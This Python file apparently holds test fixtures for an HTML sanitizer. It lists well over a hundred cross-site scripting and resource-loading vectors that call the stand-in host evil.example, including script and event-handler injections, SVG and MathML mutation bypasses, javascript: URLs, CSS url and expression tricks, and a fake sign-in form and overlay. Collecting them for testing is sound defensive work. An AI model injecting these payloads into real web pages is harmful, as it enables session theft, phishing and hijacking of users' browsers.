"""HTML that means harm, one attack a line of its own: each would show itself by running, or by fetching from EVIL."""

EVIL = "http://evil.example"
RUN = f"document.title='ran';fetch('{EVIL}/ran');alert(1)"

SCRIPTS = [
    f"<script>{RUN}</script>", f"<SCRIPT SRC={EVIL}/a.js></SCRIPT>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script>{RUN}", f"<<script>script>{RUN}<</script>/script>", f"<script\x00>{RUN}</script>",
    f"<script/x>{RUN}</script>", f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
    f"<template><script>{RUN}</script></template>", f"<!--><script>{RUN}</script>-->",
    f"<!-- --!><img src=x onerror={RUN}> -->", f"<![CDATA[><script>{RUN}</script>]]>",
    f"<title><img src=x onerror={RUN}></title>", f"<xmp><img title='</xmp><img src=x onerror={RUN}>'></xmp>",
    f"<textarea></textarea><script>{RUN}</script>", f"<plaintext><script>{RUN}</script>",
    f"<comment><img src='</comment><img src=x onerror={RUN}>'>",
]  # fmt: skip
HANDLERS = [
    f"<img src=x onerror=\"{RUN}\">", f"<img src=x onerror={RUN}//", f"<img/src=x/onerror={RUN}>",
    f"<img src=\"x` `<script>{RUN}</script>\"` `>", f"<body onload=\"{RUN}\">", f"<details open ontoggle=\"{RUN}\">x",
    f"<video autoplay onloadstart=\"{RUN}\"><source src={EVIL}/v.mp4></video>", f"<audio src={EVIL}/a.mp3 autoplay>",
    f"<input autofocus onfocus=\"{RUN}\">", f"<marquee onstart=\"{RUN}\">x</marquee>",
    f"<p style=animation:a onanimationstart=\"{RUN}\">x</p>", f"<a href=# onclick=\"{RUN}\" autofocus>x</a>",
    f"<img title=\"&quot; onerror={RUN} x=&quot;\" src=x>", f"<p title='a\" onmouseover=\"{RUN}'>x</p>",
    f"<select autofocus onfocus=\"{RUN}\"><option>x</select>", f"<iframe onload=\"{RUN}\"></iframe>",
]  # fmt: skip
DRAWINGS = [
    f"<svg onload=\"{RUN}\">", f"<svg><script>{RUN}</script></svg>", f"<svg><script href={EVIL}/a.js /></svg>",
    f"<svg><animate onbegin=\"{RUN}\" attributeName=x dur=1s>",
    f"<svg><a xlink:href=\"javascript:{RUN}\"><text y=20>x</text></a></svg>",
    f"<svg><image href={EVIL}/i.png /></svg>", f"<svg><use href=\"{EVIL}/u.svg#x\"/></svg>",
    f"<svg><foreignObject><iframe src={EVIL}/f></iframe></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg></p><style><a id=\"</style><img src=x onerror={RUN}>\">",
    f"<svg><desc><![CDATA[</desc><script>{RUN}</script>]]></svg>",
    f"<svg><set attributeName=onload to=\"{RUN}\"/></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={RUN}&gt;\">",
    f"<math href=\"javascript:{RUN}\">x</math>",
    f"<math><mi xlink:href=\"data:text/html,<script>{RUN}</script>\">x</mi></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<math><annotation-xml encoding=\"text/html\"><img src=x onerror={RUN}></annotation-xml></math>",
    f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>\">",
]  # fmt: skip
LINKS = [
    f"<a href=\"javascript:{RUN}\">x</a>",
    f"<a href=\"JaVaScRiPt:{RUN}\">x</a>",
    f"<a href=\"jav&#x09;ascript:{RUN}\">x</a>",
    f"<a href=\"&#1;javascript:{RUN}\">x</a>",
    f"<a href=\"java\nscript:{RUN}\">x</a>",
    f"<a href=\"vbscript:{RUN}\">x</a>",
    f"<a href=\"data:text/html,<script>{RUN}</script>\">x</a>", f"<a href='javas\x00cript:{RUN}'>x</a>",
    "<a href=\"/account/logout/\">x</a>", "<a href=\"//evil.example/x\">x</a>", "<a href=\"\\\\evil.example\">x</a>",
    f"<area href=\"javascript:{RUN}\">", f"<a href=\"{EVIL}\" ping=\"{EVIL}/ping\">x</a>",
    f"<a href=\"view-source:{EVIL}\">x</a>", f"<a href=\"blob:{EVIL}/x\">x</a>", "<a href=\"file:///etc/passwd\">x</a>",
]  # fmt: skip
FETCHES = [
    f"<img src={EVIL}/i.png>", f"<img srcset=\"{EVIL}/i.png 1x\">", "<img src=\"//evil.example/i.png\">",
    f"<picture><source srcset={EVIL}/i.png><img></picture>", f"<img src=x lowsrc={EVIL}/l.png dynsrc={EVIL}/d.avi>",
    f"<body background={EVIL}/b.png>", f"<table background={EVIL}/b.png><td background={EVIL}/c.png>x</table>",
    f"<input type=image src={EVIL}/i.png>", f"<video poster={EVIL}/p.png></video>", f"<embed src={EVIL}/e.swf>",
    f"<object data={EVIL}/o.html></object>",
    f"<iframe src={EVIL}/f.html></iframe>",
    f"<frameset><frame src={EVIL}/f></frameset>",
    f"<iframe srcdoc=\"<script>{RUN}</script>\"></iframe>", f"<link rel=stylesheet href={EVIL}/s.css>",
    f"<link rel=prefetch href={EVIL}/p>",
    "<link rel=dns-prefetch href=//evil.example>",
    f"<link rel=icon href={EVIL}/i.ico>",
    f"<applet code=x archive={EVIL}/a.jar></applet>", f"<bgsound src={EVIL}/b.wav>", f"<track src={EVIL}/t.vtt>",
    f"<image src={EVIL}/i.png>", f"<q cite={EVIL}/q>x</q>", f"<script type=module src={EVIL}/m.js></script>",
]  # fmt: skip
STYLES = [
    f"<style>@import '{EVIL}/s.css';</style>", f"<style>p{{background:url({EVIL}/b.png)}}</style><p>x</p>",
    f"<p style=\"background:url({EVIL}/b.png)\">x</p>", f"<p style=\"background:u\\72l({EVIL}/b.png)\">x</p>",
    f"<p style=\"width:expression({RUN})\">x</p>", f"<div style=\"list-style-image:url('{EVIL}/l.png')\"><li>x</div>",
    f"<style>@font-face{{font-family:x;src:url({EVIL}/f.woff)}}p{{font-family:x}}</style><p>x</p>",
    f"<p style='-moz-binding:url({EVIL}/x.xml#x)'>x</p>",
    f"<style>a[href^=x]{{content:url({EVIL}/c)}}</style><a href=x>x</a>",
    f"<style><!--</style><img src=x onerror={RUN}>--></style>",
    f"<font color=\"url({EVIL}/c)\" style=\"cursor:url({EVIL}/c.cur),auto\">x</font>",
    "<div style=\"position:fixed;inset:0;z-index:99999;background:white\">Sign in again</div>",
]  # fmt: skip
PAGES = [
    f"<meta http-equiv=refresh content=\"0;url={EVIL}/m\">",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{RUN}\">",
    f"<meta http-equiv=set-cookie content=\"a=b\"><base href={EVIL}/><img src=i.png>",
    f"<base href=\"javascript:/a/-{RUN}//\">",
    f"<form action={EVIL}/f><input name=password autofocus><button>Sign in</button></form>",
    f"<form id=x></form><button form=x formaction=\"javascript:{RUN}\">x</button>",
    f"<isindex action=\"javascript:{RUN}\" type=image>",
    f"<form action=\"javascript:{RUN}\"><input type=submit autofocus></form>",
    f"</body></html><script>{RUN}</script>", f"</iframe></textarea></title><script>{RUN}</script>",
    f"<html manifest={EVIL}/m><head profile={EVIL}/p>", f"<portal src={EVIL}/p></portal>",
]  # fmt: skip
NESTED = [
    "<div>" * 600 + f"<img src=x onerror={RUN}>", "<table>" * 120 + f"<script>{RUN}</script>",
    f"<a><a><a href='javascript:{RUN}'><b><a><i><script>{RUN}</script></i></a></b></a></a>",
    f"<p><svg><p><style><g title=\"</style><img src=x onerror={RUN}>\"></p></svg></p>",
    f"<table><td><form><input></table><math><mi><table><mglyph><svg><mtext>"
    f"<textarea><path id=\"</textarea><img onerror={RUN} src=x>\">",
    f"<select><template><img src=x onerror={RUN}></template></select>", "<b>" * 300 + f"<p><script>{RUN}</script>" * 20,
]  # fmt: skip

ATTACKS = [*SCRIPTS, *HANDLERS, *DRAWINGS, *LINKS, *FETCHES, *STYLES, *PAGES, *NESTED]
